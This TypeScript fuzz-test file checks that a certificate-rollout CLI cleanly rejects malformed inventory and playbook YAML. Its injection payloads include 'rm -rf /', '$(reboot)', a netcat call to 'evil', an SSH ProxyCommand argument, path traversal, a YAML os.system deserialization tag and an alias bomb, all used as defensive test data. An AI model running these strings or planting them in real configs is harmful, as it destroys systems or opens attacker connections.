// Fuzz: hundreds of generated malformed inventories and playbooks (random YAML, wrong types, huge values, shell metacharacters)
// must each end in a clear InputError naming the file and line (exit code 3 from the real CLI), never a stack trace, never a connection.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { execFile } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { dump, load } from 'js-yaml';
import { loadInputs } from '../../src/cli/pipeline.js';
import { InputError } from '../../src/errors.js';

const exec = promisify(execFile);
const SEED = Number(process.env.FUZZ_SEED ?? 20261123);
const dir = mkdtempSync(join(tmpdir(), 'certroll-fuzz-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

/** mulberry32: a small seeded PRNG so every failure can be replayed with FUZZ_SEED. */
function prng(seed: number) {
  let a = seed >>> 0;
  const next = () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
  const int = (n: number) => Math.floor(next() * n);
  const pick = <T>(xs: readonly T[]): T => xs[int(xs.length)]!;
  return { next, int, pick };
}
type Rng = ReturnType<typeof prng>;

/** A valid inventory whose hosts are unreachable (127.0.99.x, port 1): any connection attempt would end in exit code 2, not 3. */
function validInventory(): Record<string, unknown> {
  return {
    vars: { certDir: '/srv/kubernetes', manifestsDir: '/opt/kubernetes/manifests-multi', parkDir: '/opt/kubernetes', etcdClientPort: 4001, serviceIp: '10.10.10.1', extraSans: [] },
    ssh: { user: 'root', port: 1, identityFile: join(dir, 'no-such-key'), knownHostsFile: join(dir, 'known_hosts'), connectTimeout: 2, commandTimeout: 5 },
    hosts: { 'fz-1': { address: '127.0.99.1' }, 'fz-2': { address: '127.0.99.2' }, 'fz-3': { address: '127.0.99.3' }, 'fz-m': { address: '127.0.99.9' } },
    groups: { master: ['fz-1', 'fz-2', 'fz-3'], etcd: ['fz-1', 'fz-2', 'fz-3'], flannel: ['fz-1'], manager: ['fz-m'] },
  };
}
let validPlaybookText: string;
const validPlaybook = () => load(validPlaybookText) as { files: Record<string, unknown>; steps: Array<Record<string, unknown>>; [k: string]: unknown };

const SHELL = ['; rm -rf /', '$(reboot)', '`id`', '| nc evil 1', '&& touch /tmp/pwned', "'; id; '", '"$HOME"', '\\', '>/etc/passwd', '*', '?', '!', '#', '~root', '%n%n', '\u0000', '\t', ' ', '\u202e', '${IFS}'];
const withShell = (r: Rng, base: string) => (r.next() < 0.5 ? base + r.pick(SHELL) : r.pick(SHELL) + base);
const huge = (r: Rng) => r.pick([1e308, -1e308, 99999999999999999999, 2 ** 53 + 1, -1, 0.5, 'x'.repeat(100_000 + r.int(10)), '9'.repeat(400)]);
const wrongType = (r: Rng) => r.pick<unknown>([[], {}, true, false, [1, 2], { a: 1 }, 3.14, '', [[[[]]]], { address: { address: 'x' } }]);

/** Paths of the inventory with values each is guaranteed to reject. */
const inventoryMutations: Array<{ name: string; apply: (inv: Record<string, any>, r: Rng) => void }> = [
  { name: 'ssh.port', apply: (i, r) => (i.ssh.port = r.pick<unknown>(['22a', 0, 65536, 70000, ...[huge(r)], wrongType(r), withShell(r, '22')])) },
  { name: 'host address', apply: (i, r) => (i.hosts['fz-2'].address = r.pick<unknown>([withShell(r, '127.0.99.2'), '-oProxyCommand=sh', 'a b', huge(r), wrongType(r), '256.1.1.1.1', 'x'.repeat(300)])) },
  { name: 'host name', apply: (i, r) => { const n = withShell(r, 'fz'); i.hosts[n] = { address: '127.0.99.7' }; i.groups.etcd.push(n); } },
  { name: 'group name', apply: (i, r) => (i.groups[withShell(r, 'grp')] = ['fz-1']) },
  { name: 'group member', apply: (i, r) => i.groups.etcd.push(r.pick<unknown>([withShell(r, 'fz-9'), 'nosuchhost', huge(r), wrongType(r)])) },
  { name: 'vars.certDir', apply: (i, r) => (i.vars.certDir = r.pick<unknown>([withShell(r, '/srv/kubernetes'), 'srv/kubernetes', '/', '/srv/../etc', '/srv/./k', '/srv/a b', `/srv/${'a\nb'}`, huge(r), wrongType(r)])) },
  { name: 'host vars.certDir', apply: (i, r) => (i.hosts['fz-1'].vars = { certDir: withShell(r, '/srv/k') }) },
  { name: 'vars.manifestsDir', apply: (i, r) => (i.vars.manifestsDir = r.pick<unknown>([withShell(r, '/opt/m'), '../m', huge(r), wrongType(r)])) },
  { name: 'vars.etcdClientPort', apply: (i, r) => (i.vars.etcdClientPort = r.pick<unknown>(['4001x', -4001, 65536, huge(r), wrongType(r)])) },
  { name: 'vars.serviceIp', apply: (i, r) => (i.vars.serviceIp = r.pick<unknown>(['10.10.10.300', withShell(r, '10.0.0.1'), 'kubernetes', huge(r), wrongType(r)])) },
  { name: 'vars.extraSans', apply: (i, r) => (i.vars.extraSans = r.pick<unknown>([[withShell(r, 'etcd.local')], ['a..b'], 'etcd.local', [huge(r)], { a: 1 }, ['x', 'x']])) },
  { name: 'ssh.user', apply: (i, r) => (i.ssh.user = r.pick<unknown>([withShell(r, 'root'), 'x'.repeat(40), '-oProxyCommand', huge(r), wrongType(r)])) },
  { name: 'ssh.identityFile', apply: (i, r) => (i.ssh.identityFile = r.pick<unknown>([withShell(r, '/root/.ssh/id'), 'id_rsa', '~bob/id', huge(r), wrongType(r)])) },
  { name: 'ssh.connectTimeout', apply: (i, r) => (i.ssh.connectTimeout = r.pick<unknown>([0, -5, 3601, '10s', huge(r), wrongType(r)])) },
  { name: 'ssh.become', apply: (i, r) => (i.ssh.become = r.pick<unknown>(['yes', 1, 'true ', withShell(r, 'sudo'), [], {}])) },
  { name: 'unknown key', apply: (i, r) => (i[r.pick(['hostz', 'var', 'sssh', withShell(r, 'k')])] = {}) },
  { name: 'hosts shape', apply: (i, r) => (i.hosts = r.pick<unknown>([[], 'fz-1', 5, null, [{ address: '127.0.99.1' }]])) },
  { name: 'groups shape', apply: (i, r) => (i.groups = r.pick<unknown>([[], 'etcd', 5, { etcd: 'fz-1 fz-2' }, { etcd: [[]] }])) },
  { name: 'no etcd hosts', apply: (i) => (i.groups.etcd = []) },
  { name: 'deep nesting', apply: (i, r) => { let v: unknown = 'x'; for (let k = 0, n = 50 + r.int(200); k < n; k++) v = r.next() < 0.5 ? [v] : { k: v }; i.vars.certDir = v; } },
  { name: 'many hosts, one bad', apply: (i, r) => { for (let k = 0; k < 2000; k++) i.hosts[`h${k}`] = { address: `127.0.${99 + (k >> 8)}.${k & 255}` }; i.hosts[`h${r.int(2000)}`].address = withShell(r, '127.0.99.1'); } },
];

/** Steps and fields of the playbook with values each is guaranteed to reject. */
const stepOf = (p: ReturnType<typeof validPlaybook>, type: string) => p.steps.find((s) => s.type === type)!;
const playbookMutations: Array<{ name: string; apply: (p: ReturnType<typeof validPlaybook>, r: Rng) => void }> = [
  { name: 'files.*', apply: (p, r) => (p.files[r.pick(['ca', 'caKey', 'cert', 'key'])] = r.pick<unknown>([withShell(r, 'etcd.pem'), '../etc/passwd', 'a/b.pem', '', huge(r), wrongType(r)])) },
  { name: 'step type', apply: (p, r) => (p.steps[r.int(p.steps.length)]!.type = r.pick<unknown>(['shell', 'rm -rf /', withShell(r, 'backup'), 'Backup', huge(r), wrongType(r), null])) },
  { name: 'manifests', apply: (p, r) => (stepOf(p, 'rolling-restart').manifests = r.pick<unknown>([[withShell(r, 'tos-etcd.manifest')], ['../x.manifest'], [], 'tos-etcd.manifest tos-apiserver.manifest', [huge(r)], ['a', 'a']])) },
  { name: 'pauseSeconds', apply: (p, r) => (stepOf(p, 'rolling-restart')[r.pick(['pauseSeconds', 'stopTimeoutSeconds', 'healthTimeoutSeconds', 'maxRaftLag'])] = r.pick<unknown>([-1, 3.5, '30s', 10_000_000, huge(r), wrongType(r), withShell(r, '30')])) },
  { name: 'targets', apply: (p, r) => (stepOf(p, r.pick(['backup', 'distribute', 'rolling-restart', 'verify'])).targets = r.pick<unknown>([withShell(r, 'etcd'), [withShell(r, 'all')], 'first(master', [], 'nosuchgroup', ['etcd', 'first(nosuch)'], huge(r), { etcd: 1 }])) },
  { name: 'on', apply: (p, r) => (stepOf(p, r.pick(['renew-ca', 'issue-cert', 'restart-flannel'])).on = r.pick<unknown>([withShell(r, 'first(master)'), 'first(master),first(etcd)', ['first(master)'], huge(r)])) },
  { name: 'skipIfMissing', apply: (p, r) => (stepOf(p, 'restart-flannel').skipIfMissing = r.pick<unknown>([withShell(r, 'kubectl'), '/usr/bin/kubectl', huge(r), wrongType(r)])) },
  { name: 'argv', apply: (p, r) => (stepOf(p, 'rolling-restart').containerCheck = r.pick<unknown>([[], 'docker ps', [''], ['docker', 'p\ns'], [['docker']], ['x'.repeat(5000)], [huge(r)]])) },
  { name: 'template reference', apply: (p, r) => (stepOf(p, 'rolling-restart').apiserverCheck = ['sh', '-c', `echo {{ ${r.pick(['env.HOME', 'process.exit', 'secrets.key', 'constructor', '__proto__.x'])} }}`]) },
  { name: 'days / keyType', apply: (p, r) => (r.next() < 0.5 ? (stepOf(p, 'renew-ca').days = r.pick<unknown>([0, -1, 100000, huge(r), '36500d'])) : (stepOf(p, 'issue-cert').keyType = r.pick<unknown>(['rsa1024', 'dsa', withShell(r, 'rsa2048'), 5]))) },
  { name: 'unknown step key', apply: (p, r) => (p.steps[r.int(p.steps.length)]![r.pick(['sudo', 'when', 'shell', withShell(r, 'x')])] = 'true') },
  { name: 'steps shape', apply: (p, r) => (p.steps = r.pick<unknown>([[], 'backup', null, 5, [[]], [null], [{}]]) as never) },
  { name: 'name / etcdctl', apply: (p, r) => (r.next() < 0.5 ? (p.name = r.pick<unknown>(['', [], {}, 'x'.repeat(300)])) : (p.etcdctl = r.pick<unknown>([[], 'etcdctl', [''], [{}]]))) },
];

/** Text that is not a valid inventory/playbook: random bytes from YAML's own alphabet, and known YAML traps. */
function randomYaml(r: Rng): string {
  const traps = [
    '',
    '---\n---\n',
    'a: 1\na: 2\n',
    '\tkey: value\n',
    'key: [unclosed\n',
    'key: {a: 1\n',
    '? [complex, key]\n: v\n',
    '!!python/object/apply:os.system ["id"]\n',
    '!<tag:yaml.org,2002:js/function> "function(){}"\n',
    'a: &x 1\nb: *y\n',
    '<<: {hosts: {}}\n',
    'hosts: !!binary aGVsbG8=\n',
    '%YAML 9.9\n---\nx: 1\n',
    '"\\u0000": 1\n',
    'a: b: c\n',
    '- - - -\n  - x\n',
    '@reserved\n',
    '`backtick\n',
    '\uFEFF\uFEFFhosts: {}\n',
    'hosts:\n  x:\n    address: 127.0.99.1\n   bad-indent: 1\n',
  ];
  if (r.next() < 0.35) return r.pick(traps);
  const alphabet = [':', ' ', '-', '\n', '  ', '{', '}', '[', ']', ',', '#', '&', '*', '!', '|', '>', "'", '"', '%', '@', '`', '?', 'hosts', 'vars', 'steps', 'type', 'a', '1', '\t', '\\', '$(id)', ';', '\u00e9', '\uD83D\uDE00'];
  let s = '';
  for (let k = 0, n = 1 + r.int(120); k < n; k++) s += r.pick(alphabet);
  return s;
}

/** A billion-laughs style alias fan-out (kept small: every node is walked). */
function aliasBomb(levels: number): string {
  const lines = ['l0: &l0 [x, x, x, x, x, x, x, x, x, x]'];
  for (let k = 1; k < levels; k++) lines.push(`l${k}: &l${k} [${Array(10).fill(`*l${k - 1}`).join(', ')}]`);
  return lines.join('\n') + '\n';
}

interface Case {
  id: string;
  inventory: string;
  playbook: string;
  /** The file(s) that are broken; the error must name one of them. */
  broken: string[];
}

function makeCases(r: Rng): Case[] {
  const cases: Case[] = [];
  const write = (name: string, text: string) => {
    const p = join(dir, name);
    writeFileSync(p, text);
    return p;
  };
  const goodInv = write('good-inventory.yaml', dump(validInventory()));
  const goodPb = write('good-playbook.yaml', validPlaybookText);
  let n = 0;
  const add = (kind: string, inv: string | null, pb: string | null) => {
    const id = `${String(n++).padStart(3, '0')}-${kind.replace(/[^a-z0-9]+/gi, '_')}`;
    const i = inv === null ? goodInv : write(`${id}-inventory.yaml`, inv);
    const p = pb === null ? goodPb : write(`${id}-playbook.yaml`, pb);
    cases.push({ id, inventory: i, playbook: p, broken: [...(inv === null ? [] : [i]), ...(pb === null ? [] : [p])] });
  };
  for (let k = 0; k < 50; k++) add('random-yaml-inventory', randomYaml(r), null);
  for (let k = 0; k < 40; k++) add('random-yaml-playbook', null, randomYaml(r));
  for (let k = 0; k < 80; k++) {
    const m = inventoryMutations[k % inventoryMutations.length]!;
    const inv = validInventory() as Record<string, any>;
    m.apply(inv, r);
    if (r.next() < 0.15) inventoryMutations[r.int(inventoryMutations.length)]!.apply(inv, r);
    add(`inventory-${m.name}`, dump(inv, { skipInvalid: true, lineWidth: -1 }), null);
  }
  for (let k = 0; k < 70; k++) {
    const m = playbookMutations[k % playbookMutations.length]!;
    const pb = validPlaybook();
    m.apply(pb, r);
    add(`playbook-${m.name}`, null, dump(pb, { skipInvalid: true, lineWidth: -1 }));
  }
  for (let k = 0; k < 10; k++) {
    const inv = validInventory() as Record<string, any>;
    inventoryMutations[r.int(inventoryMutations.length)]!.apply(inv, r);
    const pb = validPlaybook();
    playbookMutations[r.int(playbookMutations.length)]!.apply(pb, r);
    add('both-broken', dump(inv, { skipInvalid: true, lineWidth: -1 }), dump(pb, { skipInvalid: true, lineWidth: -1 }));
  }
  add('alias-bomb-inventory', dump(validInventory()) + aliasBomb(4), null);
  add('alias-bomb-playbook', null, validPlaybookText + aliasBomb(4));
  add('huge-file', 'hosts:\n' + Array.from({ length: 20000 }, (_, k) => `  h${k}: { address: "127.0.99.${k % 250}; id" }`).join('\n') + '\n', null);
  add('binary-garbage', Buffer.from(Array.from({ length: 4096 }, () => r.int(256))).toString('latin1'), null);
  return cases;
}

let cases: Case[];
beforeAll(() => {
  validPlaybookText = readFileSync('playbooks/tos-etcd-renew.yaml', 'utf8');
  cases = makeCases(prng(SEED));
});

/**
 * Known gaps (reported to the owners of src/inventory/load.ts and src/cli/pipeline.ts): an issue about the whole document
 * (top level not a mapping) or the cross-file check "no etcd hosts" names the file but no line.
 */
const lineGap = (i: { path: string; message: string }) => i.path === '' || (i.path === 'groups.etcd' && /no etcd hosts/.test(i.message));

/** What is wrong with how a case ended, or null when it ended in a clear validation error. */
function judge(c: Case, err: unknown, opts: { strictLine: boolean }): string | null {
  if (!(err instanceof InputError)) return `not an InputError: ${err instanceof Error ? `${err.name}: ${err.message.slice(0, 300)}` : String(err)}`;
  if (!err.issues.length) return 'InputError without issues';
  if (/\n\s+at .+:\d+:\d+\)?/.test(err.message)) return 'message contains a stack trace';
  const named = err.issues.filter((i) => c.broken.includes(i.file));
  if (!named.length) return `no issue names the broken file (${c.broken.join(', ')}): ${err.message.slice(0, 300)}`;
  if (!err.issues.every((i) => i.file === c.inventory || i.file === c.playbook)) return `an issue names another file: ${err.message.slice(0, 300)}`;
  if (!err.message.includes(named[0]!.file)) return 'the message does not name the file';
  const located = named.filter((i) => typeof i.line === 'number' && i.line >= 1);
  if (!located.length && (opts.strictLine || !named.every(lineGap))) return `no line number: ${err.message.slice(0, 300)}`;
  if (located.length && !located.some((i) => err.message.includes(`${i.file}:${i.line}`))) return 'the message does not show file:line';
  return null;
}

async function outcome(c: Case): Promise<unknown> {
  try {
    await loadInputs(c.inventory, c.playbook);
    return null;
  } catch (e) {
    return e;
  }
}

describe('malformed inventories and playbooks', () => {
  it('there are at least 200 generated cases', () => {
    expect(cases.length).toBeGreaterThanOrEqual(200);
  });

  it('each one ends in an InputError naming the broken file and a line, never a crash', async () => {
    const failures: string[] = [];
    for (const c of cases) {
      const err = await outcome(c);
      const why = err === null ? 'accepted as valid' : judge(c, err, { strictLine: false });
      if (why) failures.push(`${c.id} (seed ${SEED}): ${why}`);
    }
    expect(failures).toEqual([]);
  }, 120_000);

  it('the real CLI exits 3 with "invalid input" and file:line on a sample of 20, with no stack trace and no connection attempt', async () => {
    expect(existsSync('dist/cli/bin.js'), 'build first: npm run build').toBe(true);
    const r = prng(SEED + 1);
    // Cases whose error carries a line (the known gaps below are tested on their own), spread over every kind.
    const located: Case[] = [];
    for (const c of cases) {
      const e = await outcome(c);
      if (e instanceof InputError && e.issues.some((i) => c.broken.includes(i.file) && i.line)) located.push(c);
    }
    const sample = Array.from({ length: 20 }, (_, k) => located[Math.floor((k * located.length) / 20 + r.int(Math.max(1, Math.floor(located.length / 20))))]!);
    const failures: string[] = [];
    await Promise.all(
      sample.map(async (c) => {
        let code = 0;
        let stderr = '';
        let stdout = '';
        try {
          const out = await exec('node', ['dist/cli/bin.js', 'plan', '-i', c.inventory, c.playbook], { env: { ...process.env, NO_COLOR: '1', CERTROLL_HOME: join(dir, 'home') }, maxBuffer: 1 << 26, timeout: 60_000 });
          stdout = out.stdout;
        } catch (e) {
          const x = e as { code: number; stdout: string; stderr: string };
          code = x.code;
          stderr = x.stderr;
          stdout = x.stdout;
        }
        const problems: string[] = [];
        if (code !== 3) problems.push(`exit code ${code}`);
        if (!stderr.includes('error: invalid input')) problems.push('no "error: invalid input"');
        if (!c.broken.some((f) => new RegExp(`${f.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}:\\d+`).test(stderr))) problems.push('no file:line');
        if (/internal error|\n\s+at .+:\d+:\d+\)?/.test(stderr)) problems.push('stack trace / internal error');
        if (/ECONNREFUSED|EHOSTUNREACH|connection refused|\bunreachable\b|host key/i.test(stderr + stdout)) problems.push('a connection was attempted');
        if (stdout.trim()) problems.push('printed a plan');
        if (problems.length) failures.push(`${c.id}: ${problems.join(', ')}\n${stderr.slice(0, 400)}`);
      }),
    );
    expect(failures).toEqual([]);
  }, 180_000);
});

// Known gaps, written as tests that are expected to fail today: when one is fixed, vitest reports it and `.fails` goes.
describe('known gaps (expected to fail until fixed)', () => {
  it.fails('a document that is not a mapping, and "no etcd hosts", are reported with a line', async () => {
    const inv = join(dir, 'gap-scalar.yaml');
    writeFileSync(inv, '- just\n- a list\n');
    const noEtcd = validInventory() as Record<string, any>;
    noEtcd.groups.etcd = [];
    const inv2 = join(dir, 'gap-no-etcd.yaml');
    writeFileSync(inv2, dump(noEtcd));
    const pb = join(dir, 'good-playbook.yaml');
    for (const i of [inv, inv2]) expect(judge({ id: 'gap', inventory: i, playbook: pb, broken: [i] }, await outcome({ id: 'gap', inventory: i, playbook: pb, broken: [i] }), { strictLine: true })).toBeNull();
  });

  it('a template reference to an unknown variable ({{ vars.nosuch }}) is refused at load time, before any connection', async () => {
    const p = validPlaybook();
    stepOf(p, 'rolling-restart').apiserverCheck = ['sh', '-c', 'echo {{ vars.nosuch }}'];
    const pb = join(dir, 'gap-template.yaml');
    writeFileSync(pb, dump(p));
    const c = { id: 'gap', inventory: join(dir, 'good-inventory.yaml'), playbook: pb, broken: [pb] };
    const err = await outcome(c);
    expect(err).not.toBeNull();
    expect(judge(c, err, { strictLine: true })).toBeNull();
  });
});
